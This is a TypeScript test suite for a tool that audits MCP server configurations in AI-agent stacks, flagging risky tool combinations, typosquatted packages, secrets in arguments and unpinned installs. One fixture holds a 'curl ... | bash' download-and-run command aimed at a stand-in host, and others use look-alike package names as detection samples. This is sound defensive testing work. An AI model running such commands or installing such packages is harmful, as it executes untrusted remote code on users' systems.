import { readdirSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { compilePolicy, decide, parsePolicy } from '@portcullis/engine'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { gather } from '../import/gather.ts'
import { readLine } from '../import/read-lines.ts'
import type { ServerFacts } from '../import/server-facts.ts'
import { plain } from '../report/plain.ts'
import { openIndex } from '../search/open-index.ts'
import { assessStack } from './assess-stack.ts'
import { bareConfig } from './bare-config.ts'
import { readClientConfig } from './client-config.ts'
import { queryOfSlugs, slugsOfQuery } from './link.ts'
import { openKnown } from './open-known.ts'
import { knownIn, recogniseServer } from './recognise.ts'
import type { StackMember } from './stack-report.ts'

function server(
  id: string,
  ...tools: readonly (string | { readonly name: string; readonly [key: string]: unknown })[]
): ServerFacts {
  const rows = [
    { id, name: id },
    ...tools.map((tool) => ({ server: id, ...(typeof tool === 'string' ? { name: tool } : tool) })),
  ]
  const found = rows.flatMap((row) => readLine(JSON.stringify({ ...row, from: 'list', source: 'list' })) ?? [])
  const [facts] = gather([], found, '2026-01-01').servers
  if (facts === undefined) throw new Error(id)
  return facts
}

const takes = (name: string) => ({ inputSchema: { properties: { [name]: { type: 'string' } }, required: [name] } })

const MAIL = server('github.com/acme/mail', 'list_emails', 'send_email', 'delete_email')
const WEB = server('github.com/acme/web', { name: 'fetch_webpage', ...takes('url') })
const SHELL = server(
  'github.com/acme/shell',
  { name: 'run_command', ...takes('command') },
  { name: 'write_file', ...takes('path') },
)
const PAY = server('github.com/acme/pay', 'create_refund', 'list_currencies')
const VAULT = server('github.com/acme/vault', 'get_secret')
const CLOCK = server('github.com/acme/clock', 'get_current_time')

function configured(name: string, section: object) {
  const config = readClientConfig(JSON.stringify({ mcpServers: { [name]: section } }))
  return config.ok ? config.servers[0] : undefined
}

const members = (...entries: readonly ServerFacts[]): readonly StackMember[] =>
  entries.map((entry) => ({ name: entry.name, entry }))
const kinds = (...entries: readonly ServerFacts[]) => assessStack(members(...entries)).combinations.map(({ id }) => id)

describe('toxic combinations', () => {
  it.each([
    ['a clock and a payment', [CLOCK, PAY], []],
    ['mail alone', [MAIL], ['lethal-trifecta', 'destruction-on-a-strangers-word']],
    ['web and shell', [WEB, SHELL], ['code-on-a-strangers-word', 'files-and-execution']],
    ['web and pay', [WEB, PAY], ['money-on-a-strangers-word']],
    ['vault and mail', [VAULT, MAIL], ['lethal-trifecta', 'secrets-and-a-way-out', 'destruction-on-a-strangers-word']],
    ['vault and shell', [VAULT, SHELL], ['secrets-and-a-way-out', 'code-and-secrets', 'files-and-execution']],
  ])('of %s', (_, entries, wanted) => {
    expect(kinds(...entries).toSorted()).toEqual([...wanted].sort())
  })

  it('tell the path with the tools of the stack', () => {
    const [first] = assessStack(members(WEB, MAIL)).combinations
    expect(first?.id).toBe('lethal-trifecta')
    const path = first?.path.map(plain).join(' ') ?? ''
    expect(path).toContain('fetch_webpage on github.com/acme/web')
    expect(path).toContain('send_email on github.com/acme/mail')
  })

  it('count what the client lets through: not what it leaves out, and worse what it never asks about', () => {
    const only = configured('mail', { command: 'x', includeTools: ['list_emails'] })
    expect(assessStack([{ name: 'mail', entry: MAIL, configured: only }]).tools.map(({ name }) => name)).toEqual([
      'list_emails',
    ])
    const trusted = configured('mail', { command: 'x', trust: true })
    const report = assessStack([{ name: 'mail', entry: MAIL, configured: trusted }])
    expect(report.combinations.map(({ id }) => id)).toContain('severe-without-asking')
    expect(report.findings.map(({ id }) => id)).toContain('never-asks')
    const off = configured('mail', { command: 'x', disabled: true })
    expect(assessStack([{ name: 'mail', entry: MAIL, configured: off }]).counts.servers).toBe(0)
  })

  it('know credentials in the environment of what runs code', () => {
    const shell = configured('shell', { command: 'x', env: { AWS_SECRET_ACCESS_KEY: 'a' } })
    const { combinations } = assessStack([{ name: 'shell', entry: SHELL, configured: shell }])
    const found = combinations.find(({ id }) => id === 'code-and-secrets')
    expect(found?.path.map(plain)[0]).toBe('shell is started with AWS_SECRET_ACCESS_KEY in its environment.')
  })
})

describe('findings', () => {
  const ids = (name: string, section: object, entry?: ServerFacts) =>
    assessStack([{ name, entry, configured: configured(name, section) }]).findings.map(({ id }) => id)
  it.each([
    [{ command: 'npx', args: ['some-mcp@latest'] }, ['not-pinned', 'unknown-server']],
    [{ command: 'npx', args: ['some-mcp@1.0.0'] }, ['unknown-server']],
    [{ command: 'docker', args: ['run', 'a/b'] }, ['not-pinned', 'unknown-server']],
    [{ command: 'npx', args: ['@modelcontextprotocoI/server-filesystem@1'] }, ['look-alike-package', 'unknown-server']],
    [{ command: 'uvx', args: ['mcp-server-gitt==1'] }, ['look-alike-package', 'unknown-server']],
    [{ command: 'uvx', args: ['mcp-server-git==1'] }, ['unknown-server']],
    [{ url: 'http://mcp.example.com/mcp' }, ['clear-text', 'unknown-server']],
    [{ url: 'http://127.0.0.1:8080/mcp' }, ['unknown-server']],
    [{ command: 'x', args: ['--api-key', 'abc'] }, ['secret-in-arguments', 'unknown-server']],
    [
      { url: 'https://x.example/mcp', headers: { Authorization: 'Bearer abcdef' } },
      ['secret-in-file', 'unknown-server'],
    ],
    [{ command: '/x', env: { API_KEY: `$${'{input:key}'}`, TOKEN: '<your-token>', MODE: 'fast' } }, ['unknown-server']],
    [{ command: 'sh', args: ['-c', 'curl -s https://x.example/i | bash'] }, ['downloads-and-runs', 'unknown-server']],
  ])('of %j', (section, wanted) => {
    expect(ids('x', section).toSorted()).toEqual([...wanted].sort())
  })

  it('name tools that two servers share, and look-alikes', () => {
    const [one, two] = [
      server('github.com/a/one', 'read_note', 'get_item'),
      server('github.com/a/two', 'read_note', 'get-item'),
    ]
    const { findings } = assessStack(members(one, two))
    expect(findings.map(({ id }) => id).toSorted()).toEqual(['look-alike-tool', 'same-tool-twice'])
    expect(assessStack([...members(one), { name: 'again', entry: one }]).findings).toEqual([])
  })
})

describe('over the facts that ship', () => {
  const folder = resolve(import.meta.dirname, '../../data/facts')
  const lines = readdirSync(folder)
    .filter((name) => name.endsWith('.jsonl'))
    .flatMap((name) => readFileSync(resolve(folder, name), 'utf8').split('\n'))
  const head = JSON.parse(readFileSync(resolve(folder, 'head.json'), 'utf8'))
  const known = openKnown(lines, head)
  const withTools = lines.flatMap((line, at) => {
    const next = lines[at + 1] ?? ''
    return line.startsWith('{"i":') && next.startsWith('{"t":') ? [JSON.parse(line).i as string] : []
  })

  it('policies are right, and leave no gate of a combination open', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...withTools), { minLength: 1, maxLength: 4 }), (ids) => {
        const stack = [...new Set(ids)]
          .flatMap((id) => known.entry(id) ?? [])
          .map((entry) => ({ name: entry.slug, entry }))
        const report = assessStack(stack)
        const policies = new Map(
          report.policies.map(({ member, policy }) => {
            const parsed = parsePolicy(JSON.stringify(policy))
            if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems))
            return [member, compilePolicy(parsed.policy, { id: 'x' })]
          }),
        )
        for (const { id, legs } of report.combinations) {
          const gate = id === 'code-and-secrets' ? legs[0] : legs.at(-1)
          for (const tool of gate?.tools ?? []) {
            const policy = policies.get(tool.member)
            const decision =
              policy &&
              decide(policy, {
                subject: { organisation: 'o', grant: 'g', label: 'g', owner: 'o', tags: {} },
                tool: { server: tool.member, name: tool.name },
                context: { at: 0, slot: 0 },
                arguments: {},
                inexact: new Set(),
              })
            expect([tool.name, decision?.effect]).not.toEqual([tool.name, 'allow'])
          }
        }
      }),
      { numRuns: 60 },
    )
  }, 20_000)

  it.each([
    [
      { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem'] },
      'modelcontextprotocol/servers#src/filesystem',
    ],
    [{ command: 'npx', args: ['@playwright/mcp@latest'] }, 'microsoft/playwright-mcp'],
    [{ command: 'docker', args: ['run', 'ghcr.io/github/github-mcp-server'] }, 'github/github-mcp-server'],
    [{ url: 'https://mcp.stripe.com/' }, 'stripe/agent-toolkit'],
    [{ command: 'npx', args: ['firecrawl-mcp'] }, 'firecrawl/firecrawl-mcp-server'],
    [{ url: 'https://mcp.linear.app/sse' }, 'remote:mcp.linear.app/sse'],
    [{ command: 'npx', args: ['@example/nobody-has-this'] }, undefined],
  ])('%j is recognised', (section, wanted) => {
    const found = recogniseServer(known, configured('filesystem', section)!)
    expect(found?.entry.id.replace('github.com/', '')).toBe(wanted)
  })

  it('the search index recognises the same', () => {
    const index = knownIn(openIndex(lines, head))
    const packages = ['npm:firecrawl-mcp', 'npm:@upstash/context7-mcp', 'pypi:mcp-server-git', 'pypi:mcp-atlassian']
    const addresses = ['remote:api.githubcopilot.com/mcp', 'remote:mcp.context7.com/mcp', 'remote:mcp.linear.app/sse']
    for (const key of [...packages, ...addresses]) {
      expect([key, known.claiming(key).length]).not.toEqual([key, 0])
      const ids = (from: typeof known) => from.claiming(key).map(({ id }) => id)
      expect(ids(index).toSorted()).toEqual(ids(known).toSorted())
    }
  }, 20_000)
})

describe('what leaves the browser', () => {
  const word = fc.stringMatching(/^[a-z][a-z0-9]{2,10}$/)
  const section = fc.record(
    {
      command: fc.constantFrom('npx', 'uvx', 'docker', 'node', '/opt/x'),
      args: fc.array(
        fc.oneof(
          word,
          fc.constantFrom('-y', 'run', '--token', 'pkg@1.2.3', '@a/b', 'https://u:s3cr3tpw@h.example/a?key=s3cr3tpw'),
        ),
      ),
      env: fc.constant({ KEY: 's3cr3tpw' }),
      alwaysAllow: fc.array(word),
      disabled: fc.boolean(),
    },
    { requiredKeys: ['command'] },
  )

  it('recognises the same servers, and holds no secrets', () => {
    fc.assert(
      fc.property(fc.dictionary(word, section, { maxKeys: 4 }), (sections) => {
        const whole = readClientConfig(JSON.stringify({ mcpServers: sections }))
        if (!whole.ok) throw new Error(whole.problem)
        const bare = bareConfig(whole.servers)
        const again = readClientConfig(bare)
        if (!again.ok) throw new Error(again.problem)
        const told = (servers: typeof whole.servers) =>
          servers.map(({ name, launch, url, unasked, disabled, secrets }) => ({
            ...{ name, unasked, disabled, secrets: secrets > 0 && url === undefined && launch.url === undefined },
            ...{ package: launch.package, repository: launch.repository, url: url ?? launch.url },
          }))
        expect(told(again.servers)).toEqual(told(whole.servers))
        expect(bare).not.toContain('s3cr3tpw')
      }),
    )
  })

  it('as a link is slugs, the same for the same stack', () => {
    expect(queryOfSlugs(['b', 'a', 'b', '<x>'])).toBe('s=a,b')
    expect(slugsOfQuery(['a,b', 'c', '../x'])).toEqual(['a', 'b', 'c'])
    expect(queryOfSlugs([])).toBe('')
  })
})
